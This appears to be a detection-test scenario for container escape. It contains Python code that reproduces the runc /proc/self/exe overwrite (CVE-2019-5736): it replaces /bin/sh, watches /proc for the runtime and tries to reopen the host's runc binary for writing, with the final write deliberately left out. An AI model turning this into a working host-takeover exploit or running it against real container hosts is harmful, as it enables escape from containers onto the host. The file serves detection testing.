# category: container-escape
# technique: T1611
# art: no
# developed: yes
# expect: binary-in-path-modified memfd-execution exec-from-temp host-file-via-proc
# image: debian
# mode: probe
# init: python3 /opt/scenario/watch.py
# layer: sed -n 's/^#| \{0,1\}//p' opt/scenario/run.sh >opt/scenario/watch.py
# desc: the runc /proc/self/exe overwrite (CVE-2019-5736): the container's own process (a malicious image's entrypoint) replaces /bin/sh with "#!/proc/self/exe" and watches /proc for the runtime; the next `runc exec` (a kubelet exec probe) runs the runtime's own binary inside the container, and the watcher opens it through /proc/PID/exe and tries to reopen that for writing to replace the host's runc (this runc is patched; the watcher opens without truncating and writes nothing)
sleep 3
/bin/sh -c true
sleep 1
/bin/sh -c true
sleep 1
cat /tmp/poc.log
# The watcher (written to watch.py by the layer: the lines below without "#| ")
#| import os, time
#| # arm the trap when someone first execs into the container (the first probe)
#| while not [p for p in os.listdir("/proc") if p.isdigit() and int(p) not in (1, os.getpid())]:
#|     time.sleep(0.01)
#| log = open("/tmp/poc.log", "w", buffering=1)
#| with open("/bin/sh", "wb") as f:  # through the symlink, as the PoC's os.Create
#|     f.write(b"#!/proc/self/exe\n")
#| log.write("overwrote /bin/sh with #!/proc/self/exe\n")
#| me, seen, deadline = os.getpid(), set(), time.time() + 8
#| while time.time() < deadline:
#|     for p in os.listdir("/proc"):
#|         if not p.isdigit() or int(p) == me:
#|             continue
#|         try:
#|             cmd = open(f"/proc/{p}/cmdline", "rb").read()
#|         except OSError:
#|             continue
#|         if b"runc" not in cmd and not cmd.startswith(b"/proc/self/exe") or (p, cmd) in seen:
#|             continue
#|         seen.add((p, cmd))  # runc init, then the runtime itself once /bin/sh runs it
#|         log.write(f"runtime process {p}: {cmd.replace(bytes(1), b' ').decode(errors='replace')}\n")
#|         try:
#|             h = os.open(f"/proc/{p}/exe", os.O_PATH)
#|         except OSError as e:
#|             log.write(f"open /proc/{p}/exe: {e.strerror}\n")
#|             continue
#|         for _ in range(200):
#|             try:
#|                 w = os.open(f"/proc/self/fd/{h}", os.O_WRONLY)  # no O_TRUNC, nothing written
#|                 log.write("opened the runtime's binary for writing (nothing written)\n")
#|                 os.close(w)
#|                 break
#|             except OSError as e:
#|                 err = e.strerror
#|         else:
#|             log.write(f"reopen for writing refused: {err}\n")
#|         os.close(h)
#|     time.sleep(0.001)
#| log.write("watcher done\n")
#| time.sleep(600)  # the container's main process stays
